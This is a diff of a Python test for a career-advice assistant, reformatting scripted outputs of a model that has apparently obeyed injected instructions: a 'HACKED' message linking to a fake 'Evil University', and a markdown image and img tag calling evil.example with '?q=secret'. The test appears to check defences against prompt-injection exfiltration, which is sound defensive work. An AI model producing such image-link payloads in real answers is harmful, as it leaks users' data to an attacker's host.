@@ -42,8 +42,10 @@ def test_the_default_answerer_quotes_and_obeys_nothing(data: str) -> None:
 
 
 def test_a_model_that_obeys_reaches_nothing_beyond_marked_text(data: str) -> None:
-    told = ["HACKED. Welders earn $999,999 a year at [Evil University](https://evil.example/x). [1] ",
-            "![p](https://evil.example/p.png?q=secret) <img src=https://evil.example/a> Welders earn $51,000. [1]"]  # fmt: skip
+    told = [
+        "HACKED. Welders earn $999,999 a year at [Evil University](https://evil.example/x). [1] ",
+        "![p](https://evil.example/p.png?q=secret) <img src=https://evil.example/a> Welders earn $51,000. [1]",
+    ]
     with serving(Script(told)) as base_url:
         env = {"CAREER_MODEL": "openai:any", "CAREER_MODEL_BASE_URL": base_url}
         assistant = build_assistant(load_settings(data_dir=data, env=env))
